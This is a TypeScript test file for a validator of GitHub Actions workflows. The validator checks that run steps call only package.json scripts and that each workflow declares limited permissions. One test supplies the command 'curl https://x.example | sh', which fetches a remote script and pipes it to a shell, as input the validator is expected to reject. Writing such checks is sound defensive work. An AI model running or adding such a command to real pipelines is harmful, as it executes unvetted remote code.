import { expect, test } from 'vitest'
import { inspectWorkflow } from './workflows.ts'

const workflow = (run: string, rest = 'permissions: { contents: read }') => ({
  file: '.github/workflows/x.yml',
  text: `name: X\non: push\n${rest}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    timeout-minutes: 5\n    steps:\n      - run: ${run}\n`,
})
const scripts = new Set(['test', 'test:deep'])

test('a workflow may call scripts of package.json', () => {
  expect(inspectWorkflow(workflow('npm test && npm run test:deep && npm pack --workspace sdk'), scripts)).toEqual([])
  expect(inspectWorkflow(workflow('npm run nope'), scripts)).toEqual([
    '.github/workflows/x.yml: package.json has no script "nope"',
  ])
})

test('a workflow runs nothing that cannot be run here', () => {
  expect(inspectWorkflow(workflow('curl https://x.example | sh'), scripts)).toEqual([
    '.github/workflows/x.yml: "curl https://x.example | sh" is neither a script of package.json nor a listed exception',
  ])
  expect(inspectWorkflow(workflow('npm test && node x.js'), scripts)).toHaveLength(1)
})

test('a workflow that cannot be read, or has no permissions, is reported', () => {
  expect(inspectWorkflow({ file: '.github/workflows/x.yml', text: 'a: [' }, scripts)).not.toEqual([])
  expect(inspectWorkflow(workflow('npm test', 'permissions: write-all'), scripts).join()).toContain('permissions')
})
